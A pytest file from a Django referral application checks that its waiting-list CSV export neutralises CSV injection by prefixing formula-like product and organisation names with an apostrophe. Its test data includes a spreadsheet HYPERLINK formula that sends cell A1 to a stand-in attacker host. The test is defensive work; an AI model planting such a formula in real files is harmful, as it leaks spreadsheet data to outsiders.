# SPDX-License-Identifier: EUPL-1.2
"""The waiting overview's CSV writes a product or organisation name that a spreadsheet would run as a
formula (=, +, -, @, tab) with one leading apostrophe, so Excel shows it as text (CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from tests import factories as f
from tests import factories_verwijzingen as fv

pytestmark = pytest.mark.django_db

PRODUCT = '=HYPERLINK("https://evil.example/?d="&A1, "Klik")'


def test_names_from_partners_are_defused(place: Any, users: Any, client_for: Any, frozen_time: Any) -> None:
    organisatie = f.OrganisatieFactory(naam="-Kwaad B.V.")
    huishouden = f.HuishoudenFactory(adres__buurt=place.buurt_a)
    persoon = f.PersoonFactory(huishouden=huishouden)
    fv.VerwijzingFactory(organisatie=organisatie, product=PRODUCT, status="wachtlijst", casus=None,
                         huishouden=huishouden, persoon=persoon, tweede_lijn=True)
    response = client_for(users.analist).get(reverse("verwijzingen:wachttijden_csv"))
    assert response.status_code == 200
    lines = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    rows = [line for line in lines[1:] if line[0] == "aanbieder"]
    assert [(row[1], row[2]) for row in rows] == [("'-Kwaad B.V.", "'" + PRODUCT)]
